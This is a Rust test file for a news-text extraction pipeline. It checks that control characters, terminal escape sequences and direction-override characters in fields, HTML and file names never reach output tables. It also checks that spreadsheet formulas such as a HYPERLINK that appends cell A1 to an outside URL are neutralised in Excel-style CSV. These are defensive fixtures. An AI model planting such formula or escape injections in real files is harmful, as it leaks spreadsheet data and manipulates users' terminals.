//! Input that means harm: nothing of it reaches a table, a spreadsheet or a terminal as more than text.

use std::fs;
use std::path::Path;
use std::sync::atomic::AtomicBool;

use trichdan::config::{Overrides, Settings};
use trichdan::engine::{Control, run};
use trichdan::export::{Format, Table};
use trichdan::verify::verify;

use crate::tables::rows;

/// Every control character (C0, DEL, C1) and those that turn the direction of writing.
fn controls() -> String {
    (0..0x20u8).chain(0x7f..=0x9f).map(char::from).chain("\u{202e}\u{2066}\u{200f}".chars()).collect()
}

fn settings(home: &Path, csv: &str) -> Settings {
    let pipeline = home.join("p.toml");
    fs::write(&pipeline, format!("[input]\npaths = [\"in\"]\n[run]\nmax_reject_share = 1.0\n{csv}")).unwrap();
    let output = Some(home.join("out"));
    Settings::load(Some(&pipeline), Overrides { output, overwrite: true, ..Overrides::default() }).unwrap()
}

fn finish(settings: &Settings, progress: &mut dyn FnMut()) {
    let mut progress = |_: &_| progress();
    run(settings, Control { stop: &AtomicBool::new(false), progress: &mut progress }).unwrap();
}

/// Files of each format with control characters in every field, in names, and in what makes them rejects.
fn write_input(folder: &Path) {
    fs::create_dir(folder).unwrap();
    let bad = controls();
    let field = |name: &str| format!("{name}{bad}{name}");
    let record = serde_json::json!({
        "id": field("a"), "text": format!("Ông An{bad} nói: “Cần sửa{bad} Luật Đất đai”.{bad}Hết."), "title": field("Tin"),
        "url": field("https://example.vn/"), "author": field("An"), "outlet": [field("Báo"), field("Đài")],
        "section": field("Thời sự"), "published_at": field("2025"),
    });
    let faulty = serde_json::json!({ "id": field("b"), "text": 7, "published_at": bad });
    let again = serde_json::json!({ "id": field("a"), "text": "Bản khác." });
    fs::write(folder.join("a.jsonl"), format!("{record}\n{faulty}\n{again}\n\"{bad}\"\n")).unwrap();
    fs::write(folder.join("b.txt"), format!("{bad}Bà Bình nói.{bad}")).unwrap();
    let page = format!(
        "<html><head><title>Tin{bad}&#27;[31m&#0;&#155;</title><meta name='author' content='An{bad}&#7;'></head>\
         <body><article><p>Ông An nói{bad} rằng cần sửa Luật Đất đai &#27;]0;x&#7; trong năm nay, theo ban tổ chức.</p></article>"
    );
    fs::write(folder.join("c.html"), page).unwrap();
    #[cfg(unix)]
    fs::write(folder.join("d\u{1b}[31m\n.txt"), "Hết.").unwrap();
}

#[test]
fn control_characters_reach_no_table() {
    let home = tempfile::tempdir().unwrap();
    write_input(&home.path().join("in"));
    finish(&settings(home.path(), ""), &mut || ());
    let out = home.path().join("out");
    let report = verify(&out).unwrap();
    assert!(report.is_sound(), "{:#?}", report.faults);
    for table in Table::ALL {
        for row in rows(&out, table) {
            for (name, cell) in row {
                let found = cell.chars().find(|&c| c.is_control() && c != '\n');
                assert!(found.is_none(), "{}.{name}: {cell:?}", table.name());
            }
        }
    }
    // The last line is two, because a line end is among the control characters.
    assert_eq!(rows(&out, Table::Rejects).len(), 4);
    let documents = rows(&out, Table::Documents);
    // Line ends are among the control characters, and alone they end a paragraph.
    assert_eq!(documents[0]["text"], "Ông An\n\nnói: “Cần sửa\n\nLuật Đất đai”.\n\nHết.");
    assert!(fs::read_to_string(out.join("manifest.json")).unwrap().chars().all(|c| !c.is_control() || c == '\n'));
}

#[test]
fn a_formula_stays_as_it_is_or_is_made_harmless() {
    let home = tempfile::tempdir().unwrap();
    fs::create_dir(home.path().join("in")).unwrap();
    let formula = "=HYPERLINK(\"http://example.vn/?\"&A1,\"Xem thêm\")";
    let record =
        serde_json::json!({ "id": "=1+1", "text": formula, "title": "@SUM(1)", "author": "+84 1", "section": "-" });
    fs::write(home.path().join("in/a.jsonl"), record.to_string()).unwrap();
    let out = home.path().join("out");

    finish(&settings(home.path(), ""), &mut || ());
    let plain = rows(&out, Table::Documents).remove(0);
    assert_eq!((&*plain["text"], &*plain["doc_id"], &*plain["title"]), (formula, "=1+1", "@SUM(1)"));

    finish(&settings(home.path(), "[output.csv]\nprofile = \"excel\"\n"), &mut || ());
    let bytes = fs::read(out.join(Format::Csv.file_name(Table::Documents))).unwrap();
    assert!(bytes.starts_with(b"\xef\xbb\xbfdoc_id,") && bytes.ends_with(b"\r\n"));
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let row = reader.records().next().unwrap().unwrap();
    for name in ["doc_id", "title", "author", "section", "text"] {
        let at = Table::Documents.schema().columns.iter().position(|column| column.name == name).unwrap();
        assert_eq!(row[at], format!("'{}", plain[name]), "{name}");
    }
    // The Parquet file is nobody's spreadsheet.
    assert!(verify(&out).unwrap().is_sound());
}

#[test]
fn an_input_that_vanishes_is_a_reject() {
    let home = tempfile::tempdir().unwrap();
    let folder = home.path().join("in");
    fs::create_dir(&folder).unwrap();
    fs::write(folder.join("a.txt"), "Ông An nói.").unwrap();
    fs::write(folder.join("b.txt"), "Bà Bình nói.").unwrap();
    // Called before anything is read, and after the files were found.
    finish(&settings(home.path(), ""), &mut || _ = fs::remove_file(folder.join("a.txt")));
    let out = home.path().join("out");
    let rejects = rows(&out, Table::Rejects);
    assert_eq!((rejects.len(), &*rejects[0]["code"]), (1, "io"));
    assert!(rejects[0]["source_uri"].ends_with("in/a.txt") && rejects[0]["message"].contains("No such file"));
    assert_eq!(rows(&out, Table::Documents).len(), 1);
    assert!(verify(&out).unwrap().is_sound());
}
